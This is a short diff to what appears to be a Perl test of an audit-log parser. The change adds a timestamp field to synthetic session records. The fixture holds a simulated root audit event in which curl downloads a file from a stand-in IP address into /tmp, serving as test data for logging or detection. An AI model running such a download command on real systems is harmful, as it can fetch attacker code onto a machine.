@@ -75,7 +75,7 @@ SKIP: {
 			'uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=17 comm="curl" exe="/usr/bin/curl" subj=unconfined key="exec"',
 		'EXECVE argc=3 a0="curl" a1="-O" a2="http://203.0.113.9/x"', 'CWD cwd="/tmp"',
 		"PATH item=0 name=\"/usr/bin/curl\" inode=826 dev=00:3c $path", "PATH item=1 name=\"/lib64/ld-linux-x86-64.so.2\" inode=3259 dev=00:3c $path");
-	put("$tmp/records", join '', map { "$boot\t$_->[0]\t1764403200\t$_->[1]\n" } [17, $start->('c', 9, 990, 'exec=no terminal=no')],
+	put("$tmp/records", join '', map { "$boot\t$_->[0]\t1764403200\t1764403200\t$_->[1]\n" } [17, $start->('c', 9, 990, 'exec=no terminal=no')],
 		[118, $start->('e', 17, 4090, 'exec=yes terminal=yes')], map { [$last, $_] } @event);
 	mkdir "$tmp/state";
 	my $out;
